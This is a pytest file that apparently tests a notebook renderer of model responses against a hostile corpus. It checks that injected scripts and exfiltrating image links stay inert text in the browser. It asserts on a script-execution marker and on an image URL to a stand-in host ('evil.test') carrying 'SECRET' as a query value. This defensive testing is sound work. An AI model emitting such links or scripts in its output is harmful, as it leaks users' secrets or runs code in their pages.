"""The hostile corpus in a browser: live and settled, nothing runs, nothing loads, nothing leaves its box."""

from __future__ import annotations

import json
import time
from importlib import util
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from nbresponses import Accumulator, Response, decode_event
from nbresponses.display.live_state import LiveState
from nbresponses.render import blocks, bundle

if TYPE_CHECKING:
    from module_page import ModulePage

_spec = util.spec_from_file_location("hostile", Path(__file__).parents[1] / "render" / "hostile.py")
assert _spec is not None
assert _spec.loader is not None
hostile = util.module_from_spec(_spec)
_spec.loader.exec_module(hostile)


HEAVY = ("one line", "one word", "quotations", "links", "nested emphasis", "open formulas", "list items", "columns")


def sound(text: str) -> str:
    """The text as a server can send it."""
    return text.encode("utf-8", "replace").decode()


def live(module: ModulePage, text: str, word: str) -> set[str]:
    """The answer as a view sends it, with the word in every name, label and message; the keys of its items."""
    state = LiveState()
    state.compare(blocks(Response(hostile.response(text, word), ending="failed")), 0.0)
    ops, buffers = state.take()
    module.send(*ops, ["state", {"model": word, "rest": [word]}], buffers=tuple(buffers))
    return {op[1] for op in ops}


@pytest.mark.timeout(150)
def test_live_nothing_runs_or_loads(module: ModulePage) -> None:
    words = hostile.WORDS
    for number, text in enumerate(hostile.TEXTS.values()):
        keys = live(module, text, words[number % len(words)])
        module.page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
        if number == 0:
            assert "window.__hostile_script_ran=1" in module.text(), "it is there, as text"
        module.harmless()
        module.send(*(["gone", key] for key in keys))
    module.page.wait_for_timeout(300)
    module.harmless()
    assert module.errors == []


def test_live_text_in_pieces(module: ModulePage) -> None:
    for number, text in enumerate(hostile.TEXTS.values()):
        key = str(number)
        module.send(["item", key, {"kind": "message", "order": number}])
        pieces = [text[at : at + 9] for at in range(0, len(text), 9)]
        module.send(*(["add", key, "text", sound(piece)] for piece in pieces))
    module.harmless()
    assert module.errors == []


def draw_piles(module: ModulePage, piles: dict[str, str]) -> None:
    took = {}
    for name, text in piles.items():
        module.send(["item", name, {"kind": "message", "order": 0}])
        half = len(text) // 2
        begun = time.monotonic()
        module.send(["add", name, "text", text[:half]])
        module.send(["add", name, "text", text[half:]])
        module.send(["item", name, {"done": True}])
        took[name] = round(time.monotonic() - begun, 1)
        module.harmless()
        module.send(["gone", name])
    assert max(took.values()) < 15, f"about a second expected: {took}"


@pytest.mark.timeout(150)
def test_live_piles_are_drawn_in_time(module: ModulePage) -> None:
    draw_piles(module, {name: hostile.PILES[name] for name in HEAVY})


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_live_all_piles_are_drawn_in_time(module: ModulePage) -> None:
    draw_piles(module, hostile.PILES)


def test_settled_nothing_runs_or_loads(module: ModulePage) -> None:
    """The settled HTML in a page that does not sanitise: the hardest place that it may come to."""
    words = hostile.WORDS
    for number, text in enumerate(hostile.TEXTS.values()):
        shown: dict[str, Any] = bundle(Response(hostile.response(text, words[number % len(words)]), ending="failed"))
        module.page.evaluate(
            "(html) => { const box = document.createElement('div'); box.innerHTML = html; out.append(box) }",
            shown["text/html"],
        )
    module.page.wait_for_timeout(300)
    module.harmless()


@pytest.mark.cases("jupyter", "security")
def test_cases(module: ModulePage, case: dict[str, Any]) -> None:
    events = case["input"].get("events") or []
    accumulator, state = Accumulator(), LiveState()
    for event in events:
        state.apply(accumulator.apply(decode_event(json.dumps(event))), 0.0)
        if state.look:
            state.compare(blocks(accumulator.response), 0.0)
        ops, buffers = state.take()
        if ops:
            module.send(*ops, buffers=tuple(buffers))
    module.harmless()
    text = module.text()
    if case["id"] == "B145":
        assert "costs $5, later $7 per" in text
    elif case["id"] == "B147":
        assert module.page.locator(".nbr-md var").count() == 0
    elif case["id"] == "B187":
        assert "image: a — https://evil.test/p?d=SECRET" in text
    for word in accumulator.response.output_text.split()[:1]:
        assert not word.isalnum() or word in text
